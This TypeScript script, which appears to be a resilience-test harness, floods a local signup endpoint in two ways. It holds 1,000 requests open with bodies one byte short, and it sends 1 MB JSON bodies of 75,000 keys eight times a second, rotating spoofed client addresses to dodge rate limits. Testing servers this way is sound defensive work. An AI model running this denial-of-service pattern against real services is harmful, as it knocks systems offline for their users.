import { setTimeout as delay } from "node:timers/promises";
import { attackerAddress, openSocket, requestHead } from "./attacker.ts";

// Opens 1,000 sign-ups whose bodies lack their last byte, and sends eight complete bodies a second, each 1 MB of JSON keys.
// Arguments: port, seconds. Prints the number of requests that it started.

const [port = 0, seconds = 0] = process.argv.slice(2).map(Number);
const unfinished = 1000;
const wholePerSecond = 8;
const path = "/auth/v1/signup";

const keys = Array.from({ length: 75_000 }, (_, index) => `"k${index}":1`).join(",");
const body = Buffer.from(`{${keys}}`.padEnd(1_000_000));
let started = 0;

function send(part: Buffer): void {
  started += 1;
  const head = requestHead(path, { bytes: body.length, address: attackerAddress(started) });
  const socket = openSocket(port);
  socket.write(head);
  socket.write(part);
}

const endsAt = performance.now() + seconds * 1000;
const timer = setInterval(() => send(body), 1000 / wholePerSecond);
for (let count = 0; count < unfinished; count += 1) {
  send(body.subarray(0, -1));
  // The server reads the bytes meanwhile.
  await delay(1);
}
await delay(endsAt - performance.now());
clearInterval(timer);
console.log(started);
process.exit();
